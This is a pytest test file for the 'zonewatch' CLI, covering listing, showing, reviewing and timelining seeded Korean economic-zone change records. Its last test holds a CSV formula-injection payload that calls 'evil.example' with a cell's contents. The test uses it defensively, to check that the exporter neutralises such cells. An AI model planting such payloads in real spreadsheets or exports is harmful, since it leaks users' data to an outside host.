"""``zonewatch changes`` and ``zonewatch timeline`` as a user runs them, on seeded records."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from tests.cli.conftest import Run
from zonewatch.app import App, configure
from zonewatch.changes.diffing import diff_text
from zonewatch.cli.main import cli
from zonewatch.models import (
    ChangeEntity,
    ChangeRecord,
    ChangeTopic,
    Document,
    DocumentVersion,
    Mention,
    VersionTopic,
)

KST = dt.timezone(dt.timedelta(hours=9))
OLD_BODY = "송도 바이오 클러스터에 597억 원을 투입한다.\n목표 입주기업 250개사.\n"
NEW_BODY = "송도 바이오 클러스터에 650억 원을 투입한다.\n목표 입주기업 250개사.\n"


@pytest.fixture
def app(tmp_path: Path, fresh_database_url: str) -> Iterator[App]:
    """The app over the database the ``zonewatch`` fixture runs against, to seed records."""
    built = configure(data_dir=tmp_path / "data", database_url=fresh_database_url)
    yield built
    built.dispose()


def version(document: Document, number: int, body: str) -> DocumentVersion:
    return DocumentVersion(
        document_id=document.id,
        number=number,
        title="송도 바이오 클러스터 조성 계획",
        text=body,
        content_hash=f"hash-{number}",
        extractor_version="1",
    )


def fact_source(version: DocumentVersion, url: str) -> dict[str, object]:
    return {"version_id": version.id, "version": version.number, "source": "ifez-press", "url": url}


@pytest.fixture
def seeded(zonewatch: Run, app: App) -> dict[str, int]:
    """After `zonewatch init`: a changed release about Songdo (with a fact and an attachment
    change) and a new ODZ release; the ids of their records by kind."""
    zonewatch("init")
    url = "https://www.ifez.go.kr/view/42"
    with app.session() as session:
        document = Document(source_id="ifez-press", external_id="42", url=url)
        session.add(document)
        session.flush()
        old, new = version(document, 1, OLD_BODY), version(document, 2, NEW_BODY)
        session.add_all([old, new])
        session.flush()
        evidence = [{"text": "송도", "where": "body", "start": 0, "end": 2}]
        session.add(
            Mention(version_id=new.id, entity_id="ifez-songdo", score=0.9, evidence=evidence)
        )
        session.add(VersionTopic(version_id=new.id, topic_id="plan", score=0.8, evidence=[]))
        common = {
            "document_id": document.id,
            "source_id": "ifez-press",
            "old_version_id": old.id,
            "new_version_id": new.id,
            "occurred_at": dt.datetime(2026, 3, 2, 10, tzinfo=KST),
        }
        records = {
            "changed_document": ChangeRecord(
                kind="changed_document",
                title="송도 바이오 클러스터 조성 계획",
                significance=0.62,
                signals={"kind": "changed_document", "base": 0.35, "topics": ["plan"]},
                diff={
                    "title": diff_text("송도 계획", "송도 바이오 클러스터 조성 계획").to_json(),
                    "body": diff_text(OLD_BODY, NEW_BODY).to_json(),
                },
                **common,
            ),
            "fact_change": ChangeRecord(
                kind="fact_change",
                title="송도 바이오 클러스터 — investment: 597억 원 → 650억 원",
                significance=0.7,
                diff={
                    "facts": [
                        {
                            "entity": "ifez-songdo",
                            "metric": "investment",
                            "unit": "KRW",
                            "old": 59_700_000_000,
                            "new": 65_000_000_000,
                            "old_raw": "597억 원",
                            "new_raw": "650억 원",
                            "old_source": fact_source(old, url + "?v=1"),
                            "new_source": fact_source(new, url + "?v=2"),
                        }
                    ]
                },
                **common,
            ),
            "attachment_replaced": ChangeRecord(
                kind="attachment_replaced",
                title="송도 바이오 클러스터 — 계획.hwp",
                significance=0.4,
                diff={
                    "attachments": {
                        "old": {"name": "계획.hwp", "url": "https://x/1"},
                        "new": {"name": "계획(수정).hwp", "url": "https://x/2"},
                        "renamed": True,
                    }
                },
                **common,
            ),
            "new_document": ChangeRecord(
                kind="new_document",
                title="부산 기회발전특구 추가 지정",
                significance=0.5,
                source_id="busan-press",
                occurred_at=dt.datetime(2026, 3, 5, 9, tzinfo=KST),
            ),
        }
        for kind, record in records.items():
            record.dedupe_key = f"cli-test:{kind}"
            about = "odz-busan" if kind == "new_document" else "ifez-songdo"
            record.entities = [ChangeEntity(entity_id=about)]
            record.topics = [ChangeTopic(topic_id="plan")] if kind != "new_document" else []
            session.add(record)
        session.flush()
        return {kind: record.id for kind, record in records.items()}


def test_list_as_table_json_and_csv(zonewatch: Run, seeded: dict[str, int]) -> None:
    table = zonewatch("changes", "list").stdout
    assert "when (KST)" in table
    assert "2026-03-02 10:00" in table
    assert "부산 기회발전특구 추가 지정" in table
    assert "4 changes" in table

    rows = json.loads(zonewatch("changes", "list", "--entity", "ifez", "--format", "json").stdout)
    assert {row["id"] for row in rows} == {
        seeded[kind] for kind in ("changed_document", "fact_change", "attachment_replaced")
    }
    assert all(row["entities"] == ["ifez-songdo"] and row["topics"] == ["plan"] for row in rows)

    text = zonewatch(
        "changes", "list", "--zone-type", "odz", "--since", "2026-03-03", "--format", "csv"
    ).stdout
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert [row["id"] for row in parsed] == [str(seeded["new_document"])]
    assert parsed[0]["entities"] == "odz-busan"
    assert text.splitlines()[0].startswith("id,occurred_at,created_at,kind")

    kinds = zonewatch(
        "changes", "list", "--kind", "fact_change", "--kind", "new_document", "--format", "json"
    ).stdout
    assert {row["kind"] for row in json.loads(kinds)} == {"fact_change", "new_document"}


def test_a_narrow_terminal_gets_one_change_per_two_lines(app: App, seeded: dict[str, int]) -> None:
    settings = app.settings
    where = [
        "--database-url",
        settings.effective_database_url,
        "--data-dir",
        str(settings.data_dir),
    ]
    result = CliRunner().invoke(
        cli, [*where, "changes", "list", "--limit", "1"], env={"COLUMNS": "80"}
    )
    assert result.exit_code == 0, result.output
    first, title, count = result.output.splitlines()
    assert first.split() == [
        f"#{seeded['new_document']}",
        "2026-03-05",
        "09:00",
        "new_document",
        "0.50",
        "new",
        "busan-press",
        "odz-busan",
    ]
    assert title == "    부산 기회발전특구 추가 지정"
    assert count == "1 change"


def test_show_renders_diff_facts_attachments_and_evidence(
    zonewatch: Run, seeded: dict[str, int]
) -> None:
    changed = str(seeded["changed_document"])
    wide = zonewatch("changes", "show", changed, "--no-color", "--width", "160").stdout
    assert "\x1b[" not in wide
    assert "changed_document" in wide
    assert "https://www.ifez.go.kr/view/42" in wide
    assert "v1" in wide
    assert "v2" in wide
    assert "0.62 — base 0.35, topics [plan]" in wide
    assert "│" in wide, "side by side at 160 columns"
    assert "[-597억-]" in wide
    assert "{+650억+}" in wide
    assert "ifez-songdo" in wide
    assert "“송도”" in wide
    assert "topic plan" in wide

    narrow = zonewatch("changes", "show", changed, "--no-color", "--width", "80").stdout
    assert "│" not in narrow
    assert "[-597억-]{+650억+}" in narrow

    fact = zonewatch("changes", "show", str(seeded["fact_change"]), "--no-color").stdout
    assert "investment (ifez-songdo): 597억 원 → 650억 원" in fact
    assert "https://www.ifez.go.kr/view/42?v=1" in fact
    assert "https://www.ifez.go.kr/view/42?v=2" in fact

    attachment = zonewatch("changes", "show", str(seeded["attachment_replaced"]), "--no-color")
    assert "계획.hwp <https://x/1> → 계획(수정).hwp <https://x/2>" in attachment.stdout


def test_review_marks_noise_and_learns_fragments(zonewatch: Run, seeded: dict[str, int]) -> None:
    changed = str(seeded["changed_document"])
    said = zonewatch("changes", "review", changed, "--status", "noise", "--by", "kim").stdout
    assert said.startswith(f"#{changed}: noise (by kim); ")
    assert "noise rules for ifez-press" in said
    zonewatch("changes", "review", str(seeded["new_document"]), "--status", "important")
    noise = json.loads(zonewatch("changes", "list", "--status", "noise", "--format", "json").stdout)
    assert [row["id"] for row in noise] == [int(changed)]
    assert noise[0]["reviewed_by"] == "kim"
    shown = zonewatch("changes", "show", changed, "--no-color").stdout
    assert "noise by kim" in shown


def test_timeline_oldest_first(zonewatch: Run, seeded: dict[str, int]) -> None:
    events = json.loads(zonewatch("timeline", "ifez", "--format", "json").stdout)
    times = [dt.datetime.fromisoformat(event["at"]) for event in events]
    assert times == sorted(times)
    changes = [event["id"] for event in events if event["type"] == "change"]
    assert set(changes) == {
        seeded[kind] for kind in ("changed_document", "fact_change", "attachment_replaced")
    }
    assert any(event["type"] == "model" and event["entities"] == ["ifez"] for event in events)
    table = zonewatch("timeline", "odz-busan").stdout
    assert "부산 기회발전특구 추가 지정" in table
    assert f"#{seeded['new_document']}" in table


MISTAKES = [
    (("changes", "show", "999"), "error: unknown change 999"),
    (("changes", "review", "999", "--status", "reviewed"), "error: unknown change 999"),
    (("timeline", "atlantis"), "error: unknown entity 'atlantis'"),
    (("changes", "list", "--entity", "atlantis"), "error: unknown entity 'atlantis'"),
    (("changes", "list", "--zone-type", "ifez"), "error: 'ifez' is a fez, not a zone type"),
    (("changes", "review", "1", "--status", "new"), "Invalid value for '--status'"),
]


def test_mistakes_exit_2_with_a_clear_message(zonewatch: Run) -> None:
    zonewatch("init")
    for args, message in MISTAKES:
        result = zonewatch(*args, check=False)
        assert result.returncode == 2, args
        assert message in result.stderr, args
        if message.startswith("error:"):
            assert len(result.stderr.strip().splitlines()) == 1, args


def test_csv_cells_from_crawled_titles_cannot_be_formulas(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Titles are scraped: ``=HYPERLINK(...)`` must open as text, not run as a formula."""
    from zonewatch.cli.changes import CSV_FIELDS, _print_csv

    row: dict[str, Any] = dict.fromkeys(CSV_FIELDS)
    row.update(
        id=1,
        title='=HYPERLINK("https://evil.example/?"&A1,"클릭")',
        summary="+82 2 0000",
        entities=["@odz"],
        topics=[],
        significance=-0.0,
    )
    _print_csv([row])

    [parsed] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert parsed["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"클릭")'
    assert parsed["summary"] == "'+82 2 0000"
    assert parsed["entities"] == "'@odz"
